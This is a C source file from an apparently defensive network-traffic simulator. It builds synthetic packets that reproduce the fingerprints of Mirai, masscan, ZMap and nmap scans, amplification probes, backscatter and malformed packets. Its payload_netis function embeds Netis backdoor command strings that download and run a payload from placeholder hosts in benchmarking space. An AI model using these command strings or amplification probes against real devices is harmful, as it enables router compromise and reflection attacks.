/* IP datagrams with real tools' header patterns (see packet_builder.h).
 *
 * Patterns, as measured from the real tools in network namespaces or read
 * from their sources:
 *   Mirai    SYN, seq = destination address, random window, no options, TTL 64
 *   masscan  SYN, IP ID = (dst ^ dport ^ seq) & 0xffff, window 1024, TTL 255,
 *            no options, one source port per scan
 *   ZMap     SYN, IP ID 54321, window 65535, MSS 1460, TTL 255, source port
 *            per probe
 *   nmap -sS SYN, window 1024/2048/3072/4096, MSS 1460 only, random IP ID,
 *            TTL drawn from 37..59, one source port per scan
 *   Windows  SYN, DF, TTL 128, window 64240/65535/8192, MSS,NOP,WS,NOP,NOP,SACK,
 *            IP ID from a global counter
 *   Linux    SYN, DF, TTL 64, window 29200/64240, MSS,SACK,TS,NOP,WS */
#include "simulate/packet_builder.h"

#include <stdio.h>
#include <string.h>

static inline void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static inline void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24);
    p[1] = (uint8_t)(v >> 16);
    p[2] = (uint8_t)(v >> 8);
    p[3] = (uint8_t)v;
}

static uint32_t sum16(const uint8_t *p, size_t len, uint32_t sum)
{
    while (len > 1) {
        sum += (uint32_t)p[0] << 8 | p[1];
        p += 2;
        len -= 2;
    }
    if (len)
        sum += (uint32_t)p[0] << 8;
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* Pseudo-header sum for the transport checksum. */
static uint32_t pseudo_sum(const tt_addr *src, const tt_addr *dst, uint8_t proto, uint32_t len)
{
    uint32_t sum = 0;
    if (tt_addr_is_v4(src)) {
        sum = sum16(src->bytes + 12, 4, sum);
        sum = sum16(dst->bytes + 12, 4, sum);
        sum += proto;
        sum += len;
    } else {
        sum = sum16(src->bytes, 16, sum);
        sum = sum16(dst->bytes, 16, sum);
        sum += len >> 16;
        sum += len & 0xffff;
        sum += proto;
    }
    return sum;
}

/* Writes an IPv4 header (20 bytes, checksum filled). */
static void ipv4_header(uint8_t *p, const tt_addr *src, const tt_addr *dst, uint8_t proto, uint16_t total_len,
                        uint16_t id, uint16_t frag, uint8_t ttl)
{
    p[0] = 0x45;
    p[1] = 0;
    put16(p + 2, total_len);
    put16(p + 4, id);
    put16(p + 6, frag);
    p[8] = ttl;
    p[9] = proto;
    p[10] = p[11] = 0;
    memcpy(p + 12, src->bytes + 12, 4);
    memcpy(p + 16, dst->bytes + 12, 4);
    put16(p + 10, fold(sum16(p, 20, 0)));
}

static void ipv6_header(uint8_t *p, const tt_addr *src, const tt_addr *dst, uint8_t next,
                        uint16_t payload_len, uint8_t hop_limit, uint32_t flow)
{
    put32(p, 0x60000000u | (flow & 0xfffff));
    put16(p + 4, payload_len);
    p[6] = next;
    p[7] = hop_limit;
    memcpy(p + 8, src->bytes, 16);
    memcpy(p + 24, dst->bytes, 16);
}

/* Network-layer parameters of one datagram. */
typedef struct ip_params {
    const tt_addr *src, *dst;
    uint8_t ttl;
    uint16_t id;
    bool dont_fragment;
    uint32_t flow; /* IPv6 flow label */
} ip_params;

/* Wraps a transport segment already written at out + header length. Returns
 * the header length used (20 or 40). */
static uint16_t ip_header_len(const tt_addr *src)
{
    return tt_addr_is_v4(src) ? 20 : 40;
}

static void finish_ip(uint8_t *out, const ip_params *ip, uint8_t proto, uint16_t l4_len, tt_sim_datagram *d)
{
    uint16_t hl = ip_header_len(ip->src);
    if (hl == 20)
        ipv4_header(out, ip->src, ip->dst, proto, (uint16_t)(20 + l4_len), ip->id,
                    ip->dont_fragment ? 0x4000 : 0, ip->ttl);
    else
        ipv6_header(out, ip->src, ip->dst, proto, l4_len, ip->ttl, ip->flow);
    d->len = hl + l4_len;
    d->ip_len = d->len;
    d->l4_offset = hl;
    d->proto = proto;
}

typedef struct tcp_params {
    uint16_t sport, dport;
    uint32_t seq, ack;
    uint8_t flags;
    uint16_t window;
    const uint8_t *options;
    uint8_t options_len; /* multiple of 4 */
} tcp_params;

static void build_tcp(uint8_t *out, const ip_params *ip, const tcp_params *t, tt_sim_datagram *d)
{
    uint16_t hl = ip_header_len(ip->src);
    uint8_t *p = out + hl;
    uint16_t len = (uint16_t)(20 + t->options_len);
    put16(p, t->sport);
    put16(p + 2, t->dport);
    put32(p + 4, t->seq);
    put32(p + 8, t->ack);
    p[12] = (uint8_t)((len / 4) << 4);
    p[13] = t->flags;
    put16(p + 14, t->window);
    p[16] = p[17] = 0;
    p[18] = p[19] = 0;
    if (t->options_len)
        memcpy(p + 20, t->options, t->options_len);
    put16(p + 16, fold(sum16(p, len, pseudo_sum(ip->src, ip->dst, 6, len))));
    finish_ip(out, ip, 6, len, d);
    d->port = t->dport;
    d->icmp_type = -1;
}

static void build_udp(uint8_t *out, const ip_params *ip, uint16_t sport, uint16_t dport,
                      const uint8_t *payload, uint16_t payload_len, tt_sim_datagram *d)
{
    uint16_t hl = ip_header_len(ip->src);
    uint8_t *p = out + hl;
    uint16_t len = (uint16_t)(8 + payload_len);
    put16(p, sport);
    put16(p + 2, dport);
    put16(p + 4, len);
    p[6] = p[7] = 0;
    if (payload_len && payload != p + 8)
        memmove(p + 8, payload, payload_len);
    uint16_t c = fold(sum16(p, len, pseudo_sum(ip->src, ip->dst, 17, len)));
    put16(p + 6, c ? c : 0xffff);
    finish_ip(out, ip, 17, len, d);
    d->port = dport;
    d->icmp_type = -1;
}

/* ICMP or ICMPv6 message: type, code, 4 bytes of "rest of header", body. */
static void build_icmp(uint8_t *out, const ip_params *ip, uint8_t type, uint8_t code, uint32_t rest,
                       const uint8_t *body, uint16_t body_len, tt_sim_datagram *d)
{
    bool v4 = tt_addr_is_v4(ip->src);
    uint16_t hl = ip_header_len(ip->src);
    uint8_t *p = out + hl;
    uint16_t len = (uint16_t)(8 + body_len);
    uint8_t proto = v4 ? 1 : 58;
    p[0] = type;
    p[1] = code;
    p[2] = p[3] = 0;
    put32(p + 4, rest);
    if (body_len && body != p + 8)
        memmove(p + 8, body, body_len);
    uint32_t sum = v4 ? 0 : pseudo_sum(ip->src, ip->dst, 58, len);
    put16(p + 2, fold(sum16(p, len, sum)));
    finish_ip(out, ip, proto, len, d);
    d->port = 0;
    d->icmp_type = type;
}

static uint8_t ttl_after(uint32_t initial, uint8_t hops)
{
    return (uint8_t)(initial > hops ? initial - hops : 1);
}

static uint32_t dst_v4(const tt_addr *dst)
{
    return tt_addr_v4(dst);
}

/* ---------------------------------------------------------------- TCP SYN */

static const uint8_t opt_mss[] = {0x02, 0x04, 0x05, 0xb4};
static const uint8_t opt_windows[] = {0x02, 0x04, 0x05, 0xb4, 0x01, 0x03, 0x03, 0x08, 0x01, 0x01, 0x04, 0x02};

void tt_sim_build_syn(tt_sim_source *s, const tt_addr *dst, uint16_t dport, tt_sim_rng *r, uint8_t *out,
                      tt_sim_datagram *d)
{
    ip_params ip = {&s->addr, dst, 64, 0, false, 0};
    tcp_params t = {0, dport, 0, 0, 0x02, 0, NULL, 0};
    uint8_t linux_opts[20];
    bool v4 = s->family == 4;
    uint64_t x = tt_sim_rng_next(r);
    switch (s->behaviour) {
    case TT_SIM_MIRAI:
        ip.ttl = ttl_after(64, s->hops);
        ip.id = (uint16_t)x;
        t.sport = s->sport;
        t.seq = v4 ? dst_v4(dst) : (uint32_t)(x >> 16);
        t.window = (uint16_t)(x >> 48);
        break;
    case TT_SIM_MASSCAN:
        ip.ttl = ttl_after(255, s->hops);
        t.sport = s->sport;
        /* masscan's SYN cookie: a keyed hash of the connection. */
        t.seq = (uint32_t)tt_sim_mix64((uint64_t)s->key << 32 ^ (v4 ? dst_v4(dst) : 0) ^
                                       (uint64_t)dport << 16 ^ s->sport);
        ip.id = (uint16_t)((v4 ? dst_v4(dst) : 0) ^ dport ^ t.seq);
        t.window = 1024;
        break;
    case TT_SIM_ZMAP:
        ip.ttl = ttl_after(255, s->hops);
        ip.id = 54321;
        t.sport = (uint16_t)(32768 + (x % (61000 - 32768 + 1)));
        t.seq = (uint32_t)(x >> 32);
        t.window = 65535;
        t.options = opt_mss;
        t.options_len = sizeof opt_mss;
        break;
    case TT_SIM_NMAP: {
        static const uint16_t windows[] = {1024, 1024, 1024, 2048, 3072, 4096};
        ip.ttl = ttl_after(37 + (uint32_t)(x % 23), s->hops);
        ip.id = (uint16_t)(x >> 8);
        t.sport = s->sport;
        t.seq = (uint32_t)(x >> 32);
        t.window = windows[(x >> 24) % 6];
        t.options = opt_mss;
        t.options_len = sizeof opt_mss;
        break;
    }
    default: /* an operating system's own connect() */
        ip.dont_fragment = true;
        t.seq = (uint32_t)(x >> 32);
        if (s->variant == TT_SIM_OS_WINDOWS) {
            static const uint16_t windows[] = {64240, 64240, 64240, 65535, 8192};
            ip.ttl = ttl_after(128, s->hops);
            s->ip_id = (uint16_t)(s->ip_id + 1 + (x & 3));
            ip.id = s->ip_id;
            t.sport = (uint16_t)(49152 + (x >> 8) % 16384);
            t.window = windows[(x >> 24) % 5];
            t.options = opt_windows;
            t.options_len = sizeof opt_windows;
        } else {
            ip.ttl = ttl_after(64, s->hops);
            ip.id = (uint16_t)(x >> 8);
            t.sport = (uint16_t)(32768 + (x >> 8) % 28232);
            t.window = (x >> 24) & 1 ? 29200 : 64240;
            static const uint8_t head[] = {0x02, 0x04, 0x05, 0xb4, 0x04, 0x02, 0x08, 0x0a};
            memcpy(linux_opts, head, sizeof head);
            put32(linux_opts + 8, s->key + (uint32_t)(x >> 40)); /* TSval */
            put32(linux_opts + 12, 0);                           /* TSecr */
            linux_opts[16] = 0x01;
            linux_opts[17] = 0x03;
            linux_opts[18] = 0x03;
            linux_opts[19] = 0x07;
            t.options = linux_opts;
            t.options_len = sizeof linux_opts;
        }
        break;
    }
    ip.flow = v4 ? 0 : (uint32_t)(x >> 12);
    build_tcp(out, &ip, &t, d);
}

/* ------------------------------------------------------------ UDP probes */

uint16_t tt_sim_udp_service_port(unsigned service)
{
    static const uint16_t ports[] = {53, 123, 1900, 161, 11211, 53413, 5060, 47808};
    return service < sizeof ports / sizeof ports[0] ? ports[service] : 53;
}

/* Appends a DNS name in wire format. */
static size_t dns_name(uint8_t *p, const char *name)
{
    size_t n = 0;
    while (*name) {
        const char *dot = strchr(name, '.');
        size_t label = dot ? (size_t)(dot - name) : strlen(name);
        p[n++] = (uint8_t)label;
        memcpy(p + n, name, label);
        n += label;
        name += label + (dot ? 1 : 0);
    }
    p[n++] = 0;
    return n;
}

static uint16_t payload_dns(uint8_t *p, tt_sim_rng *r)
{
    /* Open-resolver and amplification surveys. */
    static const struct {
        const char *name;
        uint16_t type, class_;
        bool edns;
    } q[] = {
        {"www.google.com", 1, 1, false}, {"isc.org", 255, 1, true},
        {"version.bind", 16, 3, false},  {"", 255, 1, true},
        {"example.com", 1, 1, false},
    };
    uint64_t x = tt_sim_rng_next(r);
    unsigned i = (unsigned)(x % (sizeof q / sizeof q[0]));
    put16(p, (uint16_t)(x >> 16));
    put16(p + 2, 0x0100); /* RD */
    put16(p + 4, 1);
    put16(p + 6, 0);
    put16(p + 8, 0);
    put16(p + 10, q[i].edns ? 1 : 0);
    size_t n = 12 + dns_name(p + 12, q[i].name);
    put16(p + n, q[i].type);
    put16(p + n + 2, q[i].class_);
    n += 4;
    if (q[i].edns) {
        static const uint8_t opt[] = {0x00, 0x00, 0x29, 0x10, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00};
        memcpy(p + n, opt, sizeof opt);
        n += sizeof opt;
    }
    return (uint16_t)n;
}

static uint16_t payload_ntp(uint8_t *p, tt_sim_rng *r)
{
    uint64_t x = tt_sim_rng_next(r);
    if (x % 10 < 6) {
        /* ntpdc -c monlist: mode 7, implementation 3, MON_GETLIST_1 (42). */
        static const uint8_t monlist[] = {0x17, 0x00, 0x03, 0x2a, 0x00, 0x00, 0x00, 0x00};
        memcpy(p, monlist, sizeof monlist);
        return sizeof monlist;
    }
    /* Mode 3 client request, version 4, transmit timestamp set. */
    memset(p, 0, 48);
    p[0] = 0xe3;
    p[2] = 0x06;
    p[3] = 0xec;
    put32(p + 40, 0xd9f00000u + (uint32_t)(x >> 40));
    put32(p + 44, (uint32_t)(x >> 8));
    return 48;
}

static uint16_t payload_text(uint8_t *p, const char *text)
{
    size_t n = strlen(text);
    memcpy(p, text, n);
    return (uint16_t)n;
}

static uint16_t payload_snmp(uint8_t *p, tt_sim_rng *r)
{
    /* SNMPv2c GetRequest, community "public", sysDescr.0. */
    static const uint8_t head[] = {0x30, 0x29, 0x02, 0x01, 0x01, 0x04, 0x06, 'p', 'u',
                                   'b',  'l',  'i',  'c',  0xa0, 0x1c, 0x02, 0x04};
    static const uint8_t tail[] = {0x02, 0x01, 0x00, 0x02, 0x01, 0x00, 0x30, 0x0e, 0x30, 0x0c, 0x06,
                                   0x08, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00, 0x05, 0x00};
    memcpy(p, head, sizeof head);
    put32(p + sizeof head, (uint32_t)tt_sim_rng_next(r) & 0x7fffffff);
    memcpy(p + sizeof head + 4, tail, sizeof tail);
    return (uint16_t)(sizeof head + 4 + sizeof tail);
}

static uint16_t payload_memcached(uint8_t *p, tt_sim_rng *r)
{
    /* UDP frame header (request id, sequence 0, 1 datagram) + "stats". */
    put16(p, (uint16_t)tt_sim_rng_next(r));
    static const uint8_t rest[] = {0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 's', 't', 'a', 't', 's', '\r', '\n'};
    memcpy(p + 2, rest, sizeof rest);
    return (uint16_t)(2 + sizeof rest);
}

static uint16_t payload_netis(uint8_t *p, tt_sim_rng *r)
{
    /* The Netis/Netcore backdoor: "AA\0\0AAAA" then a shell command. The
     * download host is in 198.18.0.0/15 (benchmarking space). */
    static const char *const commands[] = {
        "echo ok",
        "ps",
        "cat /proc/cpuinfo",
        "cd /tmp; tftp -g -r n.sh 198.18.7.21; sh n.sh",
        "cd /var; wget http://198.18.3.9/x86; chmod 777 x86; ./x86",
    };
    static const uint8_t magic[] = {'A', 'A', 0, 0, 'A', 'A', 'A', 'A'};
    memcpy(p, magic, sizeof magic);
    const char *cmd = commands[tt_sim_rng_below(r, sizeof commands / sizeof commands[0])];
    size_t n = strlen(cmd);
    memcpy(p + sizeof magic, cmd, n);
    p[sizeof magic + n] = 0;
    return (uint16_t)(sizeof magic + n + 1);
}

static uint16_t payload_sip(uint8_t *p, const tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r)
{
    char d[TT_ADDR_STRLEN], src[TT_ADDR_STRLEN];
    tt_addr_format(dst, d);
    tt_addr_format(&s->addr, src);
    uint64_t x = tt_sim_rng_next(r);
    unsigned ext = 100 + (unsigned)(x % 900);
    /* sipvicious ("friendly-scanner") OPTIONS sweep. */
    int n = snprintf((char *)p, 700,
                     "OPTIONS sip:%u@%s SIP/2.0\r\n"
                     "Via: SIP/2.0/UDP %s:5060;branch=z9hG4bK-%u;rport\r\n"
                     "Max-Forwards: 70\r\n"
                     "To: \"sipvicious\"<sip:%u@%s>\r\n"
                     "From: \"sipvicious\"<sip:%u@%s>;tag=%08x\r\n"
                     "User-Agent: friendly-scanner\r\n"
                     "Call-ID: %u\r\n"
                     "Contact: sip:%u@%s:5060\r\n"
                     "CSeq: 1 OPTIONS\r\n"
                     "Accept: application/sdp\r\n"
                     "Content-Length: 0\r\n\r\n",
                     ext, d, src, (unsigned)(x >> 8) & 0xffffff, ext, d, ext, d, (unsigned)(x >> 32),
                     (unsigned)(x >> 20) & 0xfffffff, ext, src);
    return n > 0 && n < 700 ? (uint16_t)n : 0;
}

static uint16_t udp_payload(uint8_t *p, const tt_sim_source *s, const tt_addr *dst, unsigned service,
                            tt_sim_rng *r)
{
    switch (service) {
    case TT_SIM_UDP_DNS: return payload_dns(p, r);
    case TT_SIM_UDP_NTP: return payload_ntp(p, r);
    case TT_SIM_UDP_SSDP:
        return payload_text(p, "M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\n"
                               "ST: ssdp:all\r\nMan: \"ssdp:discover\"\r\nMX: 3\r\n\r\n");
    case TT_SIM_UDP_SNMP: return payload_snmp(p, r);
    case TT_SIM_UDP_MEMCACHED: return payload_memcached(p, r);
    case TT_SIM_UDP_NETIS: return payload_netis(p, r);
    case TT_SIM_UDP_SIP: return payload_sip(p, s, dst, r);
    case TT_SIM_UDP_BACNET: {
        /* BVLC Original-Broadcast-NPDU carrying a global Who-Is. */
        static const uint8_t who_is[] = {0x81, 0x0b, 0x00, 0x0c, 0x01, 0x20,
                                         0xff, 0xff, 0x00, 0xff, 0x10, 0x08};
        memcpy(p, who_is, sizeof who_is);
        return sizeof who_is;
    }
    default: return 0;
    }
}

void tt_sim_build_udp_service(tt_sim_source *s, const tt_addr *dst, unsigned service, tt_sim_rng *r,
                              uint8_t *out, tt_sim_datagram *d)
{
    uint64_t x = tt_sim_rng_next(r);
    ip_params ip = {&s->addr, dst, ttl_after(64, s->hops), (uint16_t)x, false, (uint32_t)(x >> 20)};
    uint16_t sport = s->sport ? s->sport : (uint16_t)(1024 + (x >> 16) % 64512);
    if (service == TT_SIM_UDP_SIP)
        sport = 5060;
    else if (service == TT_SIM_UDP_NTP && (x >> 40) % 4 == 0)
        sport = 123;
    else if (service != TT_SIM_UDP_NETIS && service != TT_SIM_UDP_BACNET)
        sport = (uint16_t)(1024 + (x >> 16) % 64512); /* a fresh socket per probe */
    uint8_t *payload = out + ip_header_len(&s->addr) + 8;
    uint16_t n = udp_payload(payload, s, dst, service, r);
    build_udp(out, &ip, sport, tt_sim_udp_service_port(service), payload, n, d);
}

/* ------------------------------------------------------------------ ICMP */

static void build_echo(tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
{
    uint64_t x = tt_sim_rng_next(r);
    bool v4 = s->family == 4;
    ip_params ip = {&s->addr, dst, 64, (uint16_t)x, false, (uint32_t)(x >> 20)};
    uint8_t *body = out + ip_header_len(&s->addr) + 8;
    uint16_t body_len = 0;
    uint16_t ident, seq;
    if (s->variant == TT_SIM_OS_ZMAP && v4) {
        ip.ttl = ttl_after(255, s->hops);
        ip.id = 54321;
        ident = (uint16_t)(x >> 16);
        seq = (uint16_t)(x >> 32);
    } else if (s->variant == TT_SIM_OS_WINDOWS) {
        ip.ttl = ttl_after(128, s->hops);
        ident = 1;
        seq = s->icmp_seq++;
        body_len = 32;
        memcpy(body, "abcdefghijklmnopqrstuvwabcdefghi", 32);
    } else {
        /* iputils ping: a timeval, then bytes 0x10.. up to 56 bytes. */
        ip.ttl = ttl_after(64, s->hops);
        ip.dont_fragment = true;
        ident = (uint16_t)s->key;
        seq = s->icmp_seq++;
        body_len = 56;
        put32(body, 0x5610a000u + (uint32_t)(x >> 44));
        put32(body + 4, 0);
        put32(body + 8, (uint32_t)(x >> 32) % 1000000u);
        put32(body + 12, 0);
        for (int i = 16; i < 56; i++)
            body[i] = (uint8_t)i;
    }
    build_icmp(out, &ip, v4 ? 8 : 128, 0, (uint32_t)ident << 16 | seq, body, body_len, d);
}

/* --------------------------------------------------------------- probes */

static uint16_t pick_port(tt_sim_rng *r, const uint16_t *ports, const uint8_t *weights, unsigned n)
{
    unsigned total = 0;
    for (unsigned i = 0; i < n; i++)
        total += weights[i];
    unsigned x = tt_sim_rng_below(r, total);
    for (unsigned i = 0; i < n; i++) {
        if (x < weights[i])
            return ports[i];
        x -= weights[i];
    }
    return ports[0];
}

void tt_sim_build_probe(tt_sim_source *s, const tt_addr *dst, tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
{
    static const uint16_t masscan_ports[] = {80,   8080, 443, 3389, 5900, 22,   81,    8443, 6379, 9200,
                                             8888, 21,   25,  3306, 1433, 5432, 27017, 8000, 8081, 2375};
    static const uint8_t masscan_weights[] = {20, 12, 12, 10, 6, 8, 5, 5, 4, 4, 3, 3, 2, 3, 3, 2, 2, 3, 2, 1};
    static const uint16_t nmap_ports[] = {22,   80,   443, 3389, 21, 23,  25,  445, 139,  135,
                                          3306, 8080, 110, 143,  53, 111, 993, 995, 1723, 5900};
    static const uint8_t nmap_weights[] = {12, 12, 10, 8, 6, 6, 5, 5, 4, 4, 4, 4, 3, 3, 3, 3, 2, 2, 2, 2};
    static const uint16_t generic_ports[] = {445,  1433, 3389,  22,    80,   8080,
                                             3306, 5432, 37215, 52869, 7547, 5555};
    static const uint8_t generic_weights[] = {30, 20, 10, 10, 6, 5, 5, 2, 3, 3, 4, 2};

    switch (s->behaviour) {
    case TT_SIM_MIRAI: tt_sim_build_syn(s, dst, tt_sim_rng_below(r, 10) == 0 ? 2323 : 23, r, out, d); return;
    case TT_SIM_MASSCAN:
        tt_sim_build_syn(s, dst, pick_port(r, masscan_ports, masscan_weights, 20), r, out, d);
        return;
    case TT_SIM_ZMAP: tt_sim_build_syn(s, dst, s->port, r, out, d); return;
    case TT_SIM_NMAP: tt_sim_build_syn(s, dst, pick_port(r, nmap_ports, nmap_weights, 20), r, out, d); return;
    case TT_SIM_GENERIC: {
        /* A worm keeps to its port; now and then the host tries another. */
        uint16_t port = s->port;
        if (tt_sim_rng_below(r, 5) == 0)
            port = pick_port(r, generic_ports, generic_weights, 12);
        tt_sim_build_syn(s, dst, port, r, out, d);
        return;
    }
    case TT_SIM_ICMP: build_echo(s, dst, r, out, d); return;
    case TT_SIM_UDP: tt_sim_build_udp_service(s, dst, s->variant, r, out, d); return;
    default: build_echo(s, dst, r, out, d); return;
    }
}

/* ---------------------------------------------------------- backscatter */

void tt_sim_build_backscatter(tt_sim_source *victim, tt_sim_backscatter kind, uint16_t service,
                              const tt_addr *dst, tt_sim_rng *r, uint8_t *out, tt_sim_datagram *d)
{
    uint64_t x = tt_sim_rng_next(r);
    uint64_t y = tt_sim_rng_next(r);
    bool windows = victim->variant == TT_SIM_OS_WINDOWS;
    ip_params ip = {&victim->addr, dst,      ttl_after(windows ? 128 : 64, victim->hops),
                    (uint16_t)x,   !windows, 0};
    /* The spoofed packet's source port: whatever the flooding tool drew. */
    uint16_t spoofed_port = (uint16_t)(1024 + (x >> 16) % 64512);
    switch (kind) {
    case TT_SIM_BS_SYNACK: {
        tcp_params t = {service, spoofed_port,           (uint32_t)y, (uint32_t)(y >> 32) + 1,
                        0x12,    windows ? 8192 : 29200, opt_mss,     sizeof opt_mss};
        build_tcp(out, &ip, &t, d);
        return;
    }
    case TT_SIM_BS_RST: {
        bool with_ack = (x >> 40) % 10 < 7;
        tcp_params t = {service,
                        spoofed_port,
                        with_ack ? 0 : (uint32_t)y,
                        with_ack ? (uint32_t)(y >> 32) + 1 : 0,
                        (uint8_t)(with_ack ? 0x14 : 0x04),
                        0,
                        NULL,
                        0};
        build_tcp(out, &ip, &t, d);
        return;
    }
    case TT_SIM_BS_UNREACHABLE:
    case TT_SIM_BS_TIME_EXCEEDED: {
        /* Quote the offending packet: its IPv4 header "from" the dark
         * address plus the first 8 bytes of its transport header. */
        bool unreachable = kind == TT_SIM_BS_UNREACHABLE;
        uint8_t *quote = out + 20 + 8;
        uint8_t quoted_proto = unreachable ? 17 : 6;
        uint16_t quoted_total = unreachable ? (uint16_t)(28 + (y % 512)) : 40;
        ipv4_header(quote, dst, &victim->addr, quoted_proto, quoted_total, (uint16_t)(y >> 16), 0,
                    unreachable ? (uint8_t)(40 + (y >> 24) % 200) : 1);
        put16(quote + 20, spoofed_port);
        put16(quote + 22, service);
        if (unreachable) {
            put16(quote + 24, (uint16_t)(quoted_total - 20));
            put16(quote + 26, (uint16_t)(y >> 32));
        } else {
            put32(quote + 24, (uint32_t)(y >> 32)); /* the SYN's sequence number */
        }
        ip.ttl = ttl_after(unreachable ? (windows ? 128u : 64u) : 255u, victim->hops);
        build_icmp(out, &ip, unreachable ? 3 : 11, unreachable ? 3 : 0, 0, quote, 28, d);
        return;
    }
    default: build_echo(victim, dst, r, out, d); return;
    }
}

/* ------------------------------------------------------------- odd ones */

void tt_sim_build_udp_fragment(const tt_sim_source *s, const tt_addr *dst, bool first, tt_sim_rng *r,
                               uint8_t *out, tt_sim_datagram *d)
{
    /* A datagram too large for one Ethernet frame: a SIP INVITE with a fat
     * body, or an EDNS DNS message. Both fragments draw the same numbers. */
    uint8_t whole[3000];
    uint64_t x = tt_sim_rng_next(r);
    uint64_t y = tt_sim_rng_next(r);
    bool v4 = s->family == 4;
    uint16_t dport = v4 ? ((x & 1) ? 5060 : 53) : 53;
    uint16_t payload_len = (uint16_t)(1500 + (x >> 8) % 1300);
    uint16_t udp_len = (uint16_t)(8 + payload_len);
    uint16_t sport = (uint16_t)(1024 + (x >> 24) % 64512);
    put16(whole, sport);
    put16(whole + 2, dport);
    put16(whole + 4, udp_len);
    whole[6] = whole[7] = 0;
    if (dport == 5060) {
        /* INVITE with an oversized SDP body (SIP floods fragment). */
        static const char head[] = "INVITE sip:100@192.0.2.1 SIP/2.0\r\n"
                                   "Content-Type: application/sdp\r\n\r\nv=0\r\na=";
        memcpy(whole + 8, head, sizeof head - 1);
        tt_sim_rng fill;
        tt_sim_rng_seed1(&fill, y);
        for (size_t i = 8 + sizeof head - 1; i < udp_len; i++)
            whole[i] = (uint8_t)('a' + tt_sim_rng_below(&fill, 26));
    } else {
        /* A DNS query with EDNS0 padding (RFC 7830) up to the size: what
         * fragments on the way to an open-resolver survey's targets. */
        uint8_t *q = whole + 8;
        put16(q, (uint16_t)y);
        put16(q + 2, 0x0100);
        put16(q + 4, 1);
        put16(q + 6, 0);
        put16(q + 8, 0);
        put16(q + 10, 1);
        size_t n = 12 + dns_name(q + 12, "isc.org");
        put16(q + n, 255);
        put16(q + n + 2, 1);
        n += 4;
        /* OPT RR: root name, type 41, UDP size 4096, TTL 0, then rdata
         * holding one Padding option filled with zeros. */
        size_t rdlen = payload_len - n - 11;
        q[n] = 0;
        put16(q + n + 1, 41);
        put16(q + n + 3, 4096);
        put32(q + n + 5, 0);
        put16(q + n + 9, (uint16_t)rdlen);
        put16(q + n + 11, 12);
        put16(q + n + 13, (uint16_t)(rdlen - 4));
        memset(q + n + 15, 0, rdlen - 4);
    }
    uint16_t c = fold(sum16(whole, udp_len, pseudo_sum(&s->addr, dst, 17, udp_len)));
    put16(whole + 6, c ? c : 0xffff);

    uint8_t ttl = ttl_after(64, s->hops);
    if (v4) {
        const uint16_t first_data = 1480;
        uint16_t id = (uint16_t)(y >> 48);
        if (first) {
            ipv4_header(out, &s->addr, dst, 17, (uint16_t)(20 + first_data), id, 0x2000, ttl);
            memcpy(out + 20, whole, first_data);
            d->len = 20u + first_data;
            d->port = dport;
            d->l4_offset = 20;
        } else {
            uint16_t rest = (uint16_t)(udp_len - first_data);
            ipv4_header(out, &s->addr, dst, 17, (uint16_t)(20 + rest), id, first_data / 8, ttl);
            memcpy(out + 20, whole + first_data, rest);
            d->len = 20u + rest;
            d->port = -1;
            d->l4_offset = 0;
        }
    } else {
        const uint16_t first_data = 1232; /* 1280-byte minimum MTU less 48 */
        uint32_t id = (uint32_t)(y >> 32);
        uint16_t part = first ? first_data : (uint16_t)(udp_len - first_data);
        ipv6_header(out, &s->addr, dst, 44, (uint16_t)(8 + part), ttl, (uint32_t)x);
        uint8_t *frag = out + 40;
        frag[0] = 17;
        frag[1] = 0;
        put16(frag + 2, first ? 0x0001 : (uint16_t)(first_data | 0)); /* offset<<3 | M */
        put32(frag + 4, id);
        memcpy(frag + 8, first ? whole : whole + first_data, part);
        d->len = 48u + part;
        d->port = first ? dport : -1;
        d->l4_offset = first ? 48 : 0;
    }
    d->ip_len = d->len;
    d->proto = 17;
    d->icmp_type = -1;
}

void tt_sim_build_malformed(tt_sim_source *s, const tt_addr *dst, bool allow_bad_version, tt_sim_rng *r,
                            uint8_t *out, tt_sim_datagram *d)
{
    uint64_t x = tt_sim_rng_next(r);
    tt_sim_build_syn(s, dst, (uint16_t)(1 + (x >> 16) % 65535), r, out, d);
    unsigned variant = (unsigned)(x % 3);
    if (variant == 0 && !allow_bad_version)
        variant = 1; /* raw IP: the version nibble is the only family hint */
    if (variant == 0) {
        static const uint8_t bad_versions[] = {0, 1, 2, 3, 5, 7, 8, 15};
        out[0] = (uint8_t)(bad_versions[(x >> 8) % 8] << 4 | 5);
    } else if (variant == 1) {
        out[0] = (uint8_t)(0x40 | (x >> 8) % 5); /* IHL 0..4 */
    } else {
        put16(out + 2, (uint16_t)((x >> 8) % 20)); /* total length below the header */
    }
    out[10] = out[11] = 0;
    put16(out + 10, fold(sum16(out, 20, 0)));
    d->port = -1;
    d->icmp_type = -1;
}
